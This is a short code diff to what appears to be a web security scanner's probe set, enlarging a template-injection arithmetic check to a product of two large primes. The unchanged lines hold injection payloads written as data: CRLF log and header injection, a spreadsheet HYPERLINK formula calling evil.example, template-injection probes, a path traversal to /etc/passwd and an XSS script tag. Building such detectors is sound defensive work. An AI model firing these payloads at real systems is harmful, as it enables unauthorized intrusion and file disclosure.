@@ -10,8 +10,9 @@ import orjson
 
 JSON, FORM = "application/json", "application/x-www-form-urlencoded"
 FORGED = "forged"
-CALCULATED = str(7 * 191)
-"""What a template would have made of its text."""
+FACTORS = "1299709*15485863"
+CALCULATED = str(1_299_709 * 15_485_863)
+"""What a template would have made of its text; so long that no position and no moment happens to hold it."""
 
 METHODS_WITH_BODY = {"POST", "PUT", "PATCH"}
 
@@ -43,7 +44,7 @@ class Canaries:
             "another line of a log": f'{self.mark}\r\n{{"event": "{FORGED}", "level": "info"}}',
             "another header": f"{self.mark}\r\nSet-Cookie: {FORGED}=1",
             "formula of a spreadsheet": f'=HYPERLINK("http://evil.example/{self.mark}")',
-            "template": f"{self.mark}{{{{7*191}}}}${{7*191}}<%= 7*191 %>{{0.__class__}}%n",
+            "template": f"{self.mark}{{{{{FACTORS}}}}}${{{FACTORS}}}<%= {FACTORS} %>{{0.__class__}}%n",
             "path": f"../../../../../../etc/passwd/{self.mark}",
             "script": f"<script>alert('{self.mark}')</script>",
         }
